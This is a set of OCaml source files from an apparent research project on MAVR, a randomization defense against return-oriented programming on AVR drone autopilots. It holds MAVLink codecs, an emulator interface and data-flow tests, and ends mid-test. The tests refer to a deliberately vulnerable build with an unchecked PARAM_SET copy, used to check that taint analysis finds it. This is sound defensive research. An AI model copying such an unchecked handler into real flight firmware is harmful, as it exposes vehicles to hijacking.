  type t = { typ : int; autopilot : int; base_mode : int; custom_mode : int; system_status : int }

  let encode t =
    let buf = Buffer.create 9 in
    put_u32 buf t.custom_mode;
    put_u8 buf t.typ;
    put_u8 buf t.autopilot;
    put_u8 buf t.base_mode;
    put_u8 buf t.system_status;
    put_u8 buf 3 (* mavlink_version *);
    Buffer.contents buf

  let decode s =
    checked "HEARTBEAT" 9 s (fun () ->
        {
          custom_mode = get_u32 s 0;
          typ = get_u8 s 4;
          autopilot = get_u8 s 5;
          base_mode = get_u8 s 6;
          system_status = get_u8 s 7;
        })
end

module Attitude = struct
  type t = {
    time_boot_ms : int;
    roll : float;
    pitch : float;
    yaw : float;
    rollspeed : float;
    pitchspeed : float;
    yawspeed : float;
  }

  let encode t =
    let buf = Buffer.create 28 in
    put_u32 buf t.time_boot_ms;
    List.iter (put_f32 buf) [ t.roll; t.pitch; t.yaw; t.rollspeed; t.pitchspeed; t.yawspeed ];
    Buffer.contents buf

  let decode s =
    checked "ATTITUDE" 28 s (fun () ->
        {
          time_boot_ms = get_u32 s 0;
          roll = get_f32 s 4;
          pitch = get_f32 s 8;
          yaw = get_f32 s 12;
          rollspeed = get_f32 s 16;
          pitchspeed = get_f32 s 20;
          yawspeed = get_f32 s 24;
        })
end

module Raw_imu = struct
  type t = {
    time_usec : int;
    xacc : int; yacc : int; zacc : int;
    xgyro : int; ygyro : int; zgyro : int;
    xmag : int; ymag : int; zmag : int;
  }

  let encode t =
    let buf = Buffer.create 26 in
    put_u64 buf t.time_usec;
    List.iter (put_i16 buf)
      [ t.xacc; t.yacc; t.zacc; t.xgyro; t.ygyro; t.zgyro; t.xmag; t.ymag; t.zmag ];
    Buffer.contents buf

  let decode s =
    checked "RAW_IMU" 26 s (fun () ->
        {
          time_usec = get_u64 s 0;
          xacc = get_i16 s 8;
          yacc = get_i16 s 10;
          zacc = get_i16 s 12;
          xgyro = get_i16 s 14;
          ygyro = get_i16 s 16;
          zgyro = get_i16 s 18;
          xmag = get_i16 s 20;
          ymag = get_i16 s 22;
          zmag = get_i16 s 24;
        })
end

module Statustext = struct
  type t = { severity : int; text : string }

  let encode t =
    let buf = Buffer.create 51 in
    put_u8 buf t.severity;
    put_chars buf 50 t.text;
    Buffer.contents buf

  let decode s =
    checked "STATUSTEXT" 51 s (fun () -> { severity = get_u8 s 0; text = get_chars s 1 50 })
end

module Command_long = struct
  type t = {
    target_system : int;
    target_component : int;
    command : int;
    confirmation : int;
    params : float array;
  }

  let encode t =
    if Array.length t.params <> 7 then invalid_arg "COMMAND_LONG: need exactly 7 params";
    let buf = Buffer.create 33 in
    Array.iter (put_f32 buf) t.params;
    put_u16 buf t.command;
    put_u8 buf t.target_system;
    put_u8 buf t.target_component;
    put_u8 buf t.confirmation;
    Buffer.contents buf

  let decode s =
    checked "COMMAND_LONG" 33 s (fun () ->
        {
          params = Array.init 7 (fun k -> get_f32 s (4 * k));
          command = get_u16 s 28;
          target_system = get_u8 s 30;
          target_component = get_u8 s 31;
          confirmation = get_u8 s 32;
        })
end

module Gps_raw_int = struct
  type t = {
    time_usec : int;
    fix_type : int;
    lat : int;
    lon : int;
    alt : int;
    eph : int;
    epv : int;
    vel : int;
    cog : int;
    satellites_visible : int;
  }

  let put_i32 buf v = put_u32 buf (v land 0xFFFFFFFF)

  let get_i32 s pos =
    let v = get_u32 s pos in
    if v >= 0x80000000 then v - (1 lsl 32) else v

  let encode t =
    let buf = Buffer.create 30 in
    put_u64 buf t.time_usec;
    put_i32 buf t.lat;
    put_i32 buf t.lon;
    put_i32 buf t.alt;
    put_u16 buf t.eph;
    put_u16 buf t.epv;
    put_u16 buf t.vel;
    put_u16 buf t.cog;
    put_u8 buf t.fix_type;
    put_u8 buf t.satellites_visible;
    Buffer.contents buf

  let decode s =
    checked "GPS_RAW_INT" 30 s (fun () ->
        {
          time_usec = get_u64 s 0;
          lat = get_i32 s 8;
          lon = get_i32 s 12;
          alt = get_i32 s 16;
          eph = get_u16 s 20;
          epv = get_u16 s 22;
          vel = get_u16 s 24;
          cog = get_u16 s 26;
          fix_type = get_u8 s 28;
          satellites_visible = get_u8 s 29;
        })
end

module Sys_status = struct
  type t = {
    onboard_control_sensors_present : int;
    onboard_control_sensors_enabled : int;
    onboard_control_sensors_health : int;
    load : int;
    voltage_battery : int;
    current_battery : int;
    battery_remaining : int;
    drop_rate_comm : int;
    errors_comm : int;
    errors_count : int * int * int * int;
  }

  let put_i8 buf v = put_u8 buf (v land 0xFF)

  let get_i8 s pos =
    let v = get_u8 s pos in
    if v >= 0x80 then v - 0x100 else v

  let encode t =
    let buf = Buffer.create 31 in
    put_u32 buf t.onboard_control_sensors_present;
    put_u32 buf t.onboard_control_sensors_enabled;
    put_u32 buf t.onboard_control_sensors_health;
    put_u16 buf t.load;
    put_u16 buf t.voltage_battery;
    put_i16 buf t.current_battery;
    put_u16 buf t.drop_rate_comm;
    put_u16 buf t.errors_comm;
    let a, b, c, d = t.errors_count in
    put_u16 buf a;
    put_u16 buf b;
    put_u16 buf c;
    put_u16 buf d;
    put_i8 buf t.battery_remaining;
    Buffer.contents buf

  let decode s =
    checked "SYS_STATUS" 31 s (fun () ->
        {
          onboard_control_sensors_present = get_u32 s 0;
          onboard_control_sensors_enabled = get_u32 s 4;
          onboard_control_sensors_health = get_u32 s 8;
          load = get_u16 s 12;
          voltage_battery = get_u16 s 14;
          current_battery = get_i16 s 16;
          drop_rate_comm = get_u16 s 18;
          errors_comm = get_u16 s 20;
          errors_count = (get_u16 s 22, get_u16 s 24, get_u16 s 26, get_u16 s 28);
          battery_remaining = get_i8 s 30;
        })
end

module Param_set = struct
  type t = {
    target_system : int;
    target_component : int;
    param_id : string;
    param_value : float;
    param_type : int;
  }

  let encode t =
    let buf = Buffer.create 23 in
    put_f32 buf t.param_value;
    put_u8 buf t.target_system;
    put_u8 buf t.target_component;
    put_chars buf 16 t.param_id;
    put_u8 buf t.param_type;
    Buffer.contents buf

  let decode s =
    checked "PARAM_SET" 23 s (fun () ->
        {
          param_value = get_f32 s 0;
          target_system = get_u8 s 4;
          target_component = get_u8 s 5;
          param_id = get_chars s 6 16;
          param_type = get_u8 s 22;
        })
end
