(** The MAVR preprocessed-HEX format (§VI-B2).

    The standard flash utility strips ELF symbol information before
    uploading, so MAVR's preprocessing phase re-encodes the minimum the
    on-board randomizer needs — the ascending list of function start
    addresses and the flash locations of function pointers — and prepends
    it to the application's HEX file.  We place the blob in a segment at
    {!meta_base}, far above any real AVR flash address, so standard tools
    still understand the file. *)

(** Address of the metadata segment inside the combined HEX file. *)
val meta_base : int

type meta = {
  exec_low_end : int;
  text_start : int;
  text_end : int;
  func_addrs : int list;  (** ascending function start addresses *)
  funptr_locs : int list;  (** flash offsets of stored function pointers *)
}

val meta_of_image : Image.t -> meta

(** [to_blob meta] serializes (little-endian, magic ["MAVR1"]). *)
val to_blob : meta -> string

(** [of_blob s]
    @raise Invalid_argument on bad magic or truncated input. *)
val of_blob : string -> meta

(** [to_hex image] is the preprocessed HEX file: symbol blob at
    {!meta_base} followed by the program at 0. *)
val to_hex : Image.t -> string

(** [of_hex text] parses a preprocessed HEX back into the program image
    and its metadata.  Function symbols are reconstructed from the address
    list (names are synthesized; sizes from consecutive starts).
    @raise Invalid_argument when the metadata segment is missing. *)
val of_hex : string -> Image.t

(** [equal_meta a b] *)
val equal_meta : meta -> meta -> bool
