(** AVR execution engine with cycle accounting.

    Executes real machine code from flash with the Harvard restrictions of
    the APM platform: the PC can only address flash, data writes can never
    reach flash, and the register file / stack pointer are memory-mapped in
    the data space.  Includes the on-chip peripherals the MAVR system
    interacts with: a UART (the MAVLink transport), the watchdog-feed port
    observed by the master processor, and memory-mapped sensor registers.

    A wild return (the signature of a failed ROP attempt, §V-D) eventually
    decodes an illegal word or leaves flash, halting the CPU with a fault
    — the behaviour the master processor's failed-attack detector keys
    on. *)

(** Why execution stopped. *)
type halt =
  | Illegal_instruction of { byte_addr : int; word : int }
      (** decoded an unimplemented/garbage word — "executing garbage" *)
  | Wild_pc of int  (** PC left the programmed flash region (byte addr) *)
  | Break_hit  (** [break] instruction *)
  | Sleep_mode  (** [sleep] instruction *)
  | Rop_detected of { expected : int; got : int }
      (** shadow-stack mismatch on [ret] (byte addresses) — only with the
          runtime-monitoring baseline defense enabled *)

val pp_halt : Format.formatter -> halt -> unit

type t

(** [create ?device ()] makes a CPU with empty flash; default device is the
    ATmega2560. *)
val create : ?device:Device.t -> unit -> t

val mem : t -> Memory.t
val device : t -> Device.t

(** [load_program t image] flashes [image] and resets. *)
val load_program : t -> string -> unit

(** [reset t] : PC ← 0, SP ← top of SRAM, SREG ← 0, halt cleared, cycle
    counter zeroed.  Peripheral state is also re-initialized: the UART
    RX queue and TX buffer are drained and the watchdog-feed /
    interrupt counters zeroed, so a reflashed lifetime starts clean
    rather than inheriting the previous lifetime's half-received bytes.
    Register file and SRAM are preserved (as on real hardware after an
    external reset). *)
val reset : t -> unit

(** {2 State accessors} *)

val pc : t -> int  (** program counter, in words *)

val pc_byte_addr : t -> int
val set_pc : t -> int -> unit

val sp : t -> int  (** stack pointer (data-space address) *)

val set_sp : t -> int -> unit

(** Lowest SP value ever observed on this CPU (any write path: pushes,
    calls, interrupt entry, direct SPL/SPH stores), i.e. the deepest
    stack excursion.  Maintained by the engine itself so it is exact
    under both single-step and superblock execution; [max_int] until the
    first SP write.  Spans reflash lifetimes (not cleared by
    {!reset}). *)
val sp_watermark : t -> int

val reg : t -> int -> int
val set_reg : t -> int -> int -> unit
val sreg : t -> int
val cycles : t -> int
val instructions_retired : t -> int

(** Byte extent of the currently flashed image (the PC wild-jump bound);
    fault injectors use it to aim flash upsets at live code rather than
    erased cells. *)
val program_size : t -> int
val halted : t -> halt option

(** Force a halt state (used by fault-injection tests).  Fires the halt
    tap like any organic fault. *)
val force_halt : t -> halt -> unit

(** {2 Telemetry taps}

    Low-level instrumentation hooks the telemetry layer
    ({!Mavr_avr.Probes}, {!Mavr_avr.Trace}) builds on.  They fire from
    inside [exec_one], so they compose with the batched {!run} loops and
    the predecode cache — unlike the retired step-only tracing sidecar.
    With no tap installed the hot path pays a single flag test per
    instruction; the interrupt and halt taps are entirely off the
    per-instruction path. *)

(** [set_insn_tap t (Some f)] — [f pc insn] fires before each instruction
    executes, with [pc] the instruction's {e word} address and [insn] its
    decode (from the predecode cache when enabled).  SP, SREG and the
    cycle counter still hold their pre-execution values when [f] runs.
    [None] uninstalls.

    Installing a per-instruction tap forces the batched loops to
    single-step (fused superblocks batch accounting the tap must
    observe); installing one displaces any block tap.  Install/remove
    from inside a tap callback is safe: the engine re-reads the tap
    state at every block boundary, so the change takes effect at the
    next boundary and no stale fused code runs. *)
val set_insn_tap : t -> (int -> Isa.t -> unit) option -> unit

val insn_tap_active : t -> bool

(** Compile-time cap on instructions per fused superblock — the bound on
    [count] in block-tap callbacks and on the batched-run overshoot past
    [max_cycles].  Useful for sizing per-(block, prefix-length) memo
    tables keyed on [bi_key]. *)
val max_block_insns : int

(** Identity of a compiled superblock, exposed to the block tap: entry
    word address, the per-instruction word addresses and decodes, and a
    small dense key ([bi_key]) that is unique per compiled block within
    a CPU lifetime — suitable for memoizing per-block aggregates. *)
type block_info = private {
  bi_key : int;
  bi_pc : int;
  bi_pcs : int array;
  bi_insns : Isa.t array;
}

(** [set_block_tap t ~on_block ~on_step] installs boundary-grained
    instrumentation: when the superblock engine executes a block,
    [on_block info count] fires once {e after} it, with [count] the
    number of instructions actually retired from [info] (< the block
    length when a mid-block exit fired); whenever the engine
    single-steps instead (interrupt windows, superblocks disabled),
    [on_step pc insn] fires per instruction exactly like an insn tap.
    Displaced by {!set_insn_tap}; same boundary semantics for mid-run
    toggles. *)
val set_block_tap :
  t -> on_block:(block_info -> int -> unit) -> on_step:(int -> Isa.t -> unit) -> unit

val clear_block_tap : t -> unit
val block_tap_active : t -> bool

(** [set_irq_tap t (Some f)] — [f ~latency ~masked] fires when an
    interrupt is taken: [latency] is the hardware dispatch latency
    (cycles from the compare match — or from the [sei] that unmasked it,
    whichever is later — to vector entry), [masked] the cycles the
    pending interrupt spent blocked on a cleared I flag.  Their sum is
    the total compare-to-dispatch delay. *)
val set_irq_tap : t -> (latency:int -> masked:int -> unit) option -> unit

(** [set_halt_tap t (Some f)] — [f halt] fires exactly once per fault,
    whichever execution path raised it (including {!force_halt}).  This
    is the flight-recorder dump trigger. *)
val set_halt_tap : t -> (halt -> unit) option -> unit

(** {2 Execution} *)

(** [step t] executes one instruction (no-op when halted). *)
val step : t -> unit

(** [run t ~max_cycles] executes batched until halt or until at least
    [max_cycles] cycles have elapsed since the call.  Dispatch goes
    through fused superblocks when enabled (below), falling back to the
    predecode cache per instruction.

    Budget contract: the budget saturates (a [max_cycles] of [max_int]
    means "run until halt" and never wraps into an instant
    [`Budget_exhausted]), and execution stops at the first block
    boundary at-or-after the budget — the overshoot is bounded by one
    superblock (or, when single-stepping, one instruction plus one
    interrupt dispatch). *)
val run : t -> max_cycles:int -> [ `Halted of halt | `Budget_exhausted ]

(** [run_until_halt t ~max_cycles] is [run] for callers that only care
    whether the CPU faulted: [Some halt] on a fault within the budget,
    [None] when the budget is exhausted with the CPU still healthy.
    Same budget/overshoot contract as {!run}. *)
val run_until_halt : t -> max_cycles:int -> halt option

(** [run_until t ~max_cycles pred] additionally stops when [pred t]
    becomes true.  The predicate is observed between {e instructions},
    so this entry point always single-steps regardless of the
    superblock switch. *)
val run_until :
  t -> max_cycles:int -> (t -> bool) -> [ `Pred | `Halted of halt | `Budget_exhausted ]

(** {2 Predecode cache}

    Flash is decoded at most once per word address per lifetime: decoded
    instructions are memoized in an array indexed by word PC (covering
    every word offset, since ROP gadgets enter mid-instruction) and
    invalidated whenever the flash epoch moves — [load_program] or a
    bootloader page write — so a freshly randomized image never executes
    a stale decode.  Enabled by default; the switch exists for the
    differential tests and before/after benchmarks. *)

val set_decode_cache : t -> bool -> unit

val decode_cache_enabled : t -> bool

(** {2 Superblock threaded-code engine}

    The batched loops compile straight-line runs of instructions into
    fused superinstruction arrays — one closure per instruction, with
    PC updates, retirement counting, interrupt polling and tap
    dispatch hoisted to block boundaries.  Observable semantics are
    bit-identical to single-[step] execution: a block is never entered
    when an enabled timer compare could fire inside its worst-case
    cycle span, and any in-block write that could change that (timer
    re-arm, SREG.I set) exits the block after the writing instruction.
    Compiled blocks are dropped whenever the flash epoch moves, exactly
    like the predecode cache, so reflash and SEU page writes never
    execute stale fused code.  Enabled by default. *)

val set_superblocks : t -> bool -> unit
val superblocks_enabled : t -> bool

(** Process-wide default consulted by {!create} — lets a campaign
    driver flip every subsequently created CPU (including those built
    inside worker domains) without threading a flag through the
    scenario layers. *)
val set_superblocks_default : bool -> unit

(** [precompile t word_pcs] eagerly compiles blocks at the given entry
    word addresses (e.g. {!Mavr_analysis.Cfg} block starts) instead of
    discovering them lazily at execution time; returns the number of
    blocks compiled.  Out-of-range or already-compiled entries are
    skipped.  No-op (returning 0) when superblocks are disabled. *)
val precompile : t -> int list -> int

(** {2 Peripherals} *)

(** [uart_send t s] queues bytes for the device to receive. *)
val uart_send : t -> string -> unit

(** [set_uart_tx_pacing t ~cycles_per_byte] models the transmitter's wire
    rate: after each byte the data register stays busy (UCSRA bit 5
    clear) for that many cycles, and writes during the busy window are
    dropped — as on real hardware.  0 (the default) transmits
    instantly. *)
val set_uart_tx_pacing : t -> cycles_per_byte:int -> unit

(** [uart_rx_pending t] is the number of undelivered host→device bytes. *)
val uart_rx_pending : t -> int

(** [uart_take_tx t] drains and returns bytes the device transmitted. *)
val uart_take_tx : t -> string

(** Watchdog feeds: count and cycle time of the most recent [out] to
    {!Device.Io.wdt_feed}. *)
val watchdog_feeds : t -> int

val last_feed_cycles : t -> int

(** Host-side I/O register access (e.g. the simulator setting the gyro
    sensor registers, or tests reading them back after an attack). *)
val io_peek : t -> int -> int

val io_poke : t -> int -> int -> unit

(** Host-side EEPROM access (the persistent configuration memory; survives
    reflashing, unlike program flash). *)
val eeprom_peek : t -> int -> int

val eeprom_poke : t -> int -> int -> unit

(** Host-side data-space access. *)
val data_peek : t -> int -> int

val data_poke : t -> int -> int -> unit

(** [stack_slice t ~pos ~len] is a window of the data space, used for the
    Fig. 6 stack-progression dumps. *)
val stack_slice : t -> pos:int -> len:int -> string

(** {2 Runtime-monitoring baseline defense (the §IX comparison)}

    A DROP/ROPdefender-class shadow stack: every call pushes the return
    address to a protected side stack and every [ret] checks against it —
    detecting ROP at the first corrupted return, but charging
    [overhead_cycles] per call and per return, the instrumentation cost
    such software monitors would impose on the real AVR.  The paper
    rejects this class of defense because the APM runs at ~96 % CPU; the
    emulated cost makes that trade-off measurable. *)

(** [enable_shadow_stack t ~overhead_cycles] turns the monitor on (it
    also resets the shadow stack; call right after [load_program]). *)
val enable_shadow_stack : t -> overhead_cycles:int -> unit

val disable_shadow_stack : t -> unit

(** Depth of the shadow stack (0 when disabled or at top level). *)
val shadow_depth : t -> int

(** Timer-compare interrupts serviced since reset.  The timer is enabled
    by firmware writing bit 0 of {!Device.Io.tccr}; the period is
    [(OCR + 1) * 64] cycles and the handler runs through interrupt
    vector {!Device.Vector.timer_compare}. *)
val interrupts_taken : t -> int
