test/test_firmware.ml: Alcotest Bytes Char Helpers List Mavr_asm Mavr_avr Mavr_firmware Mavr_mavlink Mavr_obj String
