module Image = Mavr_obj.Image
module Rng = Mavr_prng.Splitmix

type t = { order : int array; new_addr : int array }

let layout (img : Image.t) order =
  let syms = Array.of_list img.symbols in
  let n = Array.length syms in
  let new_addr = Array.make n 0 in
  let cursor = ref img.text_start in
  Array.iter
    (fun idx ->
      new_addr.(idx) <- !cursor;
      cursor := !cursor + syms.(idx).Image.size)
    order;
  assert (!cursor = img.text_end);
  { order; new_addr }

let of_order img order =
  let n = List.length img.Image.symbols in
  if Array.length order <> n then invalid_arg "Shuffle.of_order: wrong length";
  let seen = Array.make n false in
  Array.iter
    (fun i ->
      if i < 0 || i >= n || seen.(i) then invalid_arg "Shuffle.of_order: not a permutation";
      seen.(i) <- true)
    order;
  layout img order

let identity img = layout img (Array.init (List.length img.Image.symbols) (fun i -> i))

let draw ~rng img =
  let order = Array.init (List.length img.Image.symbols) (fun i -> i) in
  Rng.shuffle rng order;
  layout img order

let is_identity t =
  let id = ref true in
  Array.iteri (fun k i -> if k <> i then id := false) t.order;
  !id

let map_addr (img : Image.t) t addr =
  if addr < img.text_start || addr >= img.text_end then addr
  else
    match Image.function_containing img addr with
    | None -> addr
    | Some sym ->
        (* The symbol's index in the ascending list. *)
        let idx =
          let rec find i = function
            | [] -> raise Not_found
            | (s : Image.symbol) :: rest -> if s.addr = sym.addr then i else find (i + 1) rest
          in
          find 0 img.symbols
        in
        t.new_addr.(idx) + (addr - sym.addr)
