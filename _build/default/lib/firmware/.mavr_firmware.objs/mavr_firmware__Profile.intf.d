lib/firmware/profile.mli: Format
