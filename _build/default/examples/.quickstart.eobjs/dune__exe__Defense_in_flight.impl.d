examples/defense_in_flight.ml: Format List Mavr_avr Mavr_core Mavr_firmware Mavr_sim
