lib/mavr/master.ml: Format List Logs Mavr_avr Mavr_obj Mavr_prng Serial Stream_patch String
