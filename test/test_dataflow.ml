(* The interprocedural data-flow framework (PR 8): engine unit tests on
   hand-built graphs, then its three clients cross-validated against the
   emulator and the randomizer — static stack bounds vs the dynamic SP
   watermark, uplink taint on vulnerable vs bounds-checked builds, and
   the translation-validator on fresh and deliberately corrupted
   randomized layouts. *)

module Cpu = Mavr_avr.Cpu
module Isa = Mavr_avr.Isa
module Opcode = Mavr_avr.Opcode
module Image = Mavr_obj.Image
module F = Mavr_firmware
module Randomize = Mavr_core.Randomize
module Cfg = Mavr_analysis.Cfg
module Dataflow = Mavr_analysis.Dataflow
module Stackdepth = Mavr_analysis.Stackdepth
module Taint = Mavr_analysis.Taint
module Equiv = Mavr_analysis.Equiv

let mavr_image () = (Helpers.build_mavr ()).image
let mavr_cfg = lazy (Cfg.recover (mavr_image ()))

(* Byte surgery (as in test_analysis). *)
let poke (img : Image.t) pos s =
  let b = Bytes.of_string img.code in
  Bytes.blit_string s 0 b pos (String.length s);
  { img with code = Bytes.to_string b }

(* Boot, drive the uplink with benign PARAM_SET traffic (the deepest
   interprocedural path), and read the exact SP watermark. *)
let watermark (img : Image.t) ~ms =
  let registry = Mavr_telemetry.Metrics.create () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu img.Image.code;
  let probes = Mavr_avr.Probes.attach ~registry cpu in
  ignore (Cpu.run cpu ~max_cycles:60_000);
  for i = 0 to 7 do
    let payload = String.init 16 (fun k -> Char.chr ((1 + i + k) land 0x3F)) in
    Cpu.uart_send cpu
      (Mavr_mavlink.Frame.encode
         { Mavr_mavlink.Frame.seq = i; sysid = 255; compid = 0; msgid = 23; payload })
  done;
  ignore (Cpu.run cpu ~max_cycles:(16_000 * ms));
  Mavr_avr.Probes.min_sp probes

(* ---- the worklist solver on hand-built graphs ---- *)

module IntSet = Set.Make (Int)

module SetDom = struct
  type t = IntSet.t

  let equal = IntSet.equal
  let join = IntSet.union
end

module SetSolver = Dataflow.Solver (SetDom)

let test_solver_diamond () =
  (* 0 -> {1,2} -> 3; reaching-nodes domain.  The join point must see
     the union of both arms. *)
  let succs = function 0 -> [ 1; 2 ] | 1 -> [ 3 ] | 2 -> [ 3 ] | _ -> [] in
  let transfer n s =
    List.map (fun m -> (m, IntSet.add n s)) (succs n)
  in
  let r =
    SetSolver.solve ~nodes:[ 0; 1; 2; 3 ] ~seeds:[ (0, IntSet.empty) ] ~transfer ()
  in
  let got = Hashtbl.find r.SetSolver.in_states 3 in
  Alcotest.(check (list int)) "join point sees both arms" [ 0; 1; 2 ]
    (IntSet.elements got);
  Alcotest.(check bool) "solver made progress" true (r.SetSolver.iterations >= 4)

let test_solver_per_edge_refinement () =
  (* A branch that sends a different fact down each edge — the clients'
     cpi/brlo clamp in miniature. *)
  let transfer n s =
    match n with
    | 0 -> [ (1, IntSet.singleton 100); (2, IntSet.singleton 200) ]
    | _ -> List.map (fun m -> (m, s)) []
  in
  let r = SetSolver.solve ~nodes:[ 0; 1; 2 ] ~seeds:[ (0, IntSet.empty) ] ~transfer () in
  Alcotest.(check (list int)) "taken edge fact" [ 100 ]
    (IntSet.elements (Hashtbl.find r.SetSolver.in_states 1));
  Alcotest.(check (list int)) "fallthrough edge fact" [ 200 ]
    (IntSet.elements (Hashtbl.find r.SetSolver.in_states 2))

module ChainDom = struct
  type t = Fin of int | Top

  let equal = ( = )

  let join a b =
    match (a, b) with
    | Top, _ | _, Top -> Top
    | Fin x, Fin y -> Fin (max x y)
end

module ChainSolver = Dataflow.Solver (ChainDom)

let test_solver_widening_terminates () =
  (* A self-loop on an infinite-ascending-chain domain only terminates
     through the widening hook. *)
  let transfer _ s =
    match s with
    | ChainDom.Fin k -> [ (0, ChainDom.Fin (k + 1)) ]
    | ChainDom.Top -> [ (0, ChainDom.Top) ]
  in
  let r =
    ChainSolver.solve ~max_joins:8
      ~widen:(fun _ -> ChainDom.Top)
      ~nodes:[ 0 ]
      ~seeds:[ (0, ChainDom.Fin 0) ]
      ~transfer ()
  in
  Alcotest.(check bool) "widened to top" true
    (Hashtbl.find r.ChainSolver.in_states 0 = ChainDom.Top)

let test_sccs_reverse_topological () =
  (* 1 <-> 2 <-> 3 cycle, then 3 -> 4 -> 5: callee components first. *)
  let succs = function
    | 1 -> [ 2 ]
    | 2 -> [ 3 ]
    | 3 -> [ 1; 4 ]
    | 4 -> [ 5 ]
    | _ -> []
  in
  let comps = Dataflow.sccs ~nodes:[ 1; 2; 3; 4; 5 ] ~succs in
  let sorted = List.map (List.sort compare) comps in
  Alcotest.(check bool) "cycle condensed into one component" true
    (List.mem [ 1; 2; 3 ] sorted);
  let index c =
    let rec go i = function
      | [] -> Alcotest.failf "component missing"
      | x :: _ when x = c -> i
      | _ :: tl -> go (i + 1) tl
    in
    go 0 sorted
  in
  Alcotest.(check bool) "leaf before its caller" true (index [ 5 ] < index [ 4 ]);
  Alcotest.(check bool) "caller of the cycle comes last" true
    (index [ 4 ] < index [ 1; 2; 3 ])

let test_callgraph_partition () =
  let img = mavr_image () in
  let cg = Dataflow.Callgraph.build (Lazy.force mavr_cfg) in
  List.iter
    (fun (s : Image.symbol) ->
      Alcotest.(check int)
        (Printf.sprintf "%s owns its entry" s.name)
        s.addr
        (Dataflow.Callgraph.owner cg s.addr))
    img.symbols;
  (* Every icall target is its own partition: a text function entry or
     a low-region trampoline slot. *)
  let entries =
    List.fold_left (fun acc (s : Image.symbol) -> IntSet.add s.addr acc) IntSet.empty img.symbols
  in
  List.iter
    (fun t ->
      Alcotest.(check bool)
        (Printf.sprintf "icall target 0x%x is an entry or low slot" t)
        true
        (IntSet.mem t entries || t < img.Image.exec_low_end);
      Alcotest.(check int)
        (Printf.sprintf "icall target 0x%x owns itself" t)
        t
        (Dataflow.Callgraph.owner cg t))
    (Dataflow.Callgraph.icall_targets cg)

(* ---- client 1: static stack bounds ---- *)

let test_stackdepth_finite_and_tight () =
  let r = Stackdepth.analyze (Lazy.force mavr_cfg) in
  let finite = function Stackdepth.Finite b -> b | Stackdepth.Unbounded why ->
    Alcotest.failf "unbounded: %s" why
  in
  let main = finite r.Stackdepth.main_total in
  let image = finite r.Stackdepth.image_bound in
  Alcotest.(check bool) "image bound includes the interrupt frame" true (image > main);
  List.iter
    (fun ((l : Stackdepth.local), b) ->
      match b with
      | Stackdepth.Finite _ -> ()
      | Stackdepth.Unbounded why ->
          Alcotest.failf "entry 0x%x unbounded: %s" l.Stackdepth.l_entry why)
    r.Stackdepth.per_entry

let test_static_dominates_dynamic () =
  let r = Stackdepth.analyze (Lazy.force mavr_cfg) in
  let b =
    match r.Stackdepth.image_bound with
    | Stackdepth.Finite b -> b
    | Stackdepth.Unbounded why -> Alcotest.failf "unbounded image: %s" why
  in
  match watermark (mavr_image ()) ~ms:300 with
  | None -> Alcotest.fail "probes saw no stack activity"
  | Some sp ->
      let dynamic = F.Layout.stack_top - sp in
      Alcotest.(check bool)
        (Printf.sprintf "static %d B >= dynamic %d B" b dynamic)
        true (dynamic <= b);
      (* The bound is an over-approximation but must stay tight — the
         slack is one interrupt frame plus the worst ISR, not pages. *)
      Alcotest.(check bool)
        (Printf.sprintf "bound is tight (slack %d B)" (b - dynamic))
        true
        (b - dynamic <= 32)

(* The full property: on every application profile and ten fresh
   randomized layouts each, the static bound of the *randomized* image
   still dominates its measured watermark. *)
let test_property_static_ge_dynamic_all_profiles () =
  List.iter
    (fun (p : F.Profile.t) ->
      let img = (F.Build.build p F.Profile.mavr).F.Build.image in
      for seed = 1 to 10 do
        let r = Randomize.randomize ~seed img in
        let sd = Stackdepth.analyze (Cfg.recover r) in
        let b =
          match sd.Stackdepth.image_bound with
          | Stackdepth.Finite b -> b
          | Stackdepth.Unbounded why ->
              Alcotest.failf "%s seed %d: unbounded: %s" p.name seed why
        in
        match watermark r ~ms:150 with
        | None -> Alcotest.failf "%s seed %d: no stack activity" p.name seed
        | Some sp ->
            let dynamic = F.Layout.stack_top - sp in
            Alcotest.(check bool)
              (Printf.sprintf "%s seed %d: static %d >= dynamic %d" p.name seed b dynamic)
              true (dynamic <= b)
      done)
    F.Profile.all

(* ---- client 2: uplink taint ---- *)

let test_taint_finds_unchecked_copy () =
  let r = Taint.analyze (Lazy.force mavr_cfg) in
  Alcotest.(check int) "exactly one finding on the vulnerable build" 1
    (List.length r.Taint.findings);
  let f = List.hd r.Taint.findings in
  Alcotest.(check string) "the finding is the PARAM_SET handler" "handle_param_set"
    f.Taint.fn;
  Alcotest.(check bool) "store site inside the handler's loop" true
    (f.Taint.store_addr > 0 && f.Taint.branch_addr > 0)

let test_taint_silent_on_patched () =
  let img = (Helpers.build_patched ()).image in
  let r = Taint.analyze (Cfg.recover img) in
  Alcotest.(check int) "bounds-checked build is clean" 0 (List.length r.Taint.findings)

let test_taint_finds_copy_on_stock () =
  (* The vulnerability is source-level — the stock toolchain build
     carries it too. *)
  let img = (Helpers.build_stock ()).image in
  let r = Taint.analyze (Cfg.recover img) in
  Alcotest.(check bool) "stock build also flagged" true (List.length r.Taint.findings >= 1)

(* ---- client 3: translation validation ---- *)

let test_validator_accepts_randomized () =
  let img = mavr_image () in
  List.iter
    (fun seed ->
      match Equiv.validate ~original:img ~randomized:(Randomize.randomize ~seed img) with
      | Ok (s : Equiv.stats) ->
          Alcotest.(check bool)
            (Printf.sprintf "seed %d: nonempty proof" seed)
            true
            (s.functions > 0 && s.insns > 0 && s.edges > 0)
      | Error (m :: _) ->
          Alcotest.failf "seed %d rejected: %s" seed
            (Format.asprintf "%a" Equiv.pp_mismatch m)
      | Error [] -> Alcotest.failf "seed %d rejected without a mismatch" seed)
    [ 1; 17; 4242 ]

let test_validator_accepts_identity () =
  let img = mavr_image () in
  match Equiv.validate ~original:img ~randomized:img with
  | Ok _ -> ()
  | Error _ -> Alcotest.fail "identity layout rejected"

let test_validator_catches_misrelocated_call () =
  let img = mavr_image () in
  let r = Randomize.randomize ~seed:5 img in
  (* Byte-surgery a single call's word target one word off — exactly
     the bug class a broken randomizer would introduce. *)
  let line =
    List.find
      (fun (l : Mavr_avr.Disasm.line) ->
        match l.insn with Isa.Call _ -> true | _ -> false)
      (Mavr_avr.Disasm.sweep ~pos:r.Image.text_start
         ~len:(r.Image.text_end - r.Image.text_start)
         r.Image.code)
  in
  let target = match line.insn with Isa.Call t -> t | _ -> assert false in
  let bad = poke r line.byte_addr (Opcode.encode_bytes (Isa.Call (target + 1))) in
  match Equiv.validate ~original:img ~randomized:bad with
  | Ok _ -> Alcotest.fail "validator accepted a mis-relocated call target"
  | Error ms ->
